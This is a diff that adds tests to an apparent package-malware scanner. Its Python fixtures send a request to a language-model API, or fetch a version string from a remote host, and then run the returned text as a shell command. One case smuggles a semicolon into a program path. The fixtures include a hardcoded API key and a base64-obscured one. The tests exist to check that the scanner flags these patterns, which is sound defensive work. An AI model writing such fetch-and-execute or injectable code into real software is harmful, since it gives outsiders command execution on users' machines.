@@ -681,3 +681,57 @@ test('what was received and is quoted for its place in a line gives no order, un
   expect(await of("'bash -c ' + shlex.quote(code)")).toMatchObject([{ class: 'malware', score: 10 }]);
   expect(await of('shlex.quote(code)')).toMatchObject([{ class: 'malware', score: 10 }]);
 });
+
+test.each([
+  ['asked under the key of its user', "os.environ['MODEL_KEY']", 'https://api.openai.com/v1/chat/completions', 3],
+  ['on this machine', "''", 'http://localhost:11434/api/generate', 3],
+  [
+    'asked under a key of the code',
+    "'sk-0123456789abcdef0123456789abcdef'",
+    'https://api.openai.com/v1/chat/completions',
+    6,
+  ],
+  [
+    'asked under a hidden key of the code',
+    "base64.b64decode('c2stMDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=').decode()",
+    'https://api.openai.com/v1/chat/completions',
+    6,
+  ],
+  ['of another house', "os.environ['MODEL_KEY']", 'https://api.kettle.invalid/v1/chat/completions', 6],
+  ['that is none on this machine', "os.environ['MODEL_KEY']", 'http://localhost:8000/orders', 6],
+])('a command that a model %s answers', async (_how, key, address, score) => {
+  const of = (indent: string, ...head: readonly string[]): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import base64, os, requests, subprocess',
+        ...head,
+        ...[
+          `answer = requests.post('${address}', headers={'Authorization': 'Bearer ' + ${key}}, json={'q': 'list'}).json()`,
+          "subprocess.run(answer['choices'][0]['text'], shell=True)",
+        ].map((line) => indent + line),
+      ),
+    });
+
+  expect(await inspect('remote-code', of('    ', 'def act():'))).toMatchObject([{ context: 'call', score }]);
+  expect(await inspect('remote-code', of(''))).toMatchObject([{ class: 'malware', context: 'import', score: 10 }]);
+});
+
+test('a program of a fixed name in a folder called after an answer is no command that came, the answer itself is', async () => {
+  const of = (program: string): Promise<readonly Finding[]> =>
+    inspect(
+      'remote-code',
+      wheel({
+        'pkg/__init__.py': python(
+          'import os, requests, subprocess',
+          'def version():',
+          "    number = requests.get('https://files.vendor.invalid/latest').text",
+          '    here = os.path.dirname(__file__)',
+          `    return subprocess.check_output([${program}, '-v'], shell=True)`,
+        ),
+      }),
+    );
+
+  expect(await of("os.path.join(here, number, 'driver.exe')")).toEqual([]);
+  for (const program of ['number', 'os.path.join(here, number)', "here + '/;' + number + '/driver.exe'"])
+    expect(await of(program), program).toMatchObject([{ class: 'malware', score: 6 }]);
+});
